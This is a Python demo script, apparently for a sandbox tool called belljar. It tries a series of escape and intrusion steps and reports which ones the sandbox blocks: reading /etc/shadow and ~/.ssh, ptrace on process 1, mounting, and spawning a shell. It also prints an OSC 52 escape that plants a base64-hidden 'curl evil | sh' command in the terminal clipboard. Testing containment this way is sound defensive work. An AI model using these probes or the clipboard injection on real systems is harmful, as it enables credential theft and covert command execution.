# SPDX-License-Identifier: MIT
# $ belljar run -v examples/tour.py
"""A tour of the glass: what an agent-written script might try on a bad day, and what it sees when it does.

Every step is harmless where it works: it connects to this machine only, reads and mounts nothing that it keeps, and
undoes what it made. Run it plainly and beneath belljar, at two levels, and compare.
"""
import ctypes
import errno
import os
import socket
import subprocess

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    """Turns the result of a C call into Python's own kind of error."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def work():
    """What the script was asked to do."""
    with open("report.txt", "w", encoding="utf-8") as report:
        report.write("\n".join(str(n * n) for n in range(1000)))
    return f"wrote {os.path.getsize('report.txt')} bytes to {os.path.abspath('report.txt')}"


def read_passwords():
    with open("/etc/shadow", encoding="utf-8") as shadow:
        return f"read {len(shadow.readline())} bytes"


def read_keys():
    folder = os.path.expanduser("~/.ssh")
    return f"found {len(os.listdir(folder))} files in {folder}"


def write_outside():
    path = "/usr/local/tour-was-here"
    with open(path, "x", encoding="utf-8"):
        os.unlink(path)
    return "could write below /usr"


def call_home():
    with socket.create_connection(("127.0.0.1", 9), timeout=1):
        return "connected"


def look_into_process_1():
    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
    checked(libc.ptrace(PTRACE_ATTACH, 1, None, None))
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    return "attached to process 1"


def mount_something():
    checked(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
    libc.umount2(b"/mnt", 2)
    return "mounted a file system"


def new_namespace():
    CLONE_NEWUSER = 0x10000000
    child = os.fork()
    if child == 0:
        os._exit(ctypes.get_errno() if libc.unshare(CLONE_NEWUSER) < 0 else 0)
    number = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if number:
        raise OSError(number, os.strerror(number))
    return "has a user namespace of its own"


def start_a_shell():
    shell = subprocess.run(["/bin/sh", "-c", "id -u"], capture_output=True, text=True, check=True)
    return "a shell ran as uid " + shell.stdout.strip()


def steal_the_clipboard():
    """A terminal would take this for a command; the bytes must never reach it."""
    print("\033]52;c;Y3VybCBldmlsIHwgc2g=\a", end="")
    return "wrote to the terminal's clipboard, or so it believes"


STEPS = [
    ("do the work", work),
    ("read /etc/shadow", read_passwords),
    ("list the keys in ~/.ssh", read_keys),
    ("write below /usr", write_outside),
    ("connect to 127.0.0.1:9", call_home),
    ("attach to process 1", look_into_process_1),
    ("mount a file system", mount_something),
    ("make a user namespace", new_namespace),
    ("start a shell", start_a_shell),
    ("set the clipboard", steal_the_clipboard),
]

for title, step in STEPS:
    try:
        outcome = step()
    except OSError as error:
        outcome = f"no: {errno.errorcode.get(error.errno, error.errno)}, {error.strerror}"
    except Exception as error:  # the tour goes on whatever a step meets
        outcome = f"no: {error!r}"
    print(f"{title:26} {outcome}", flush=True)
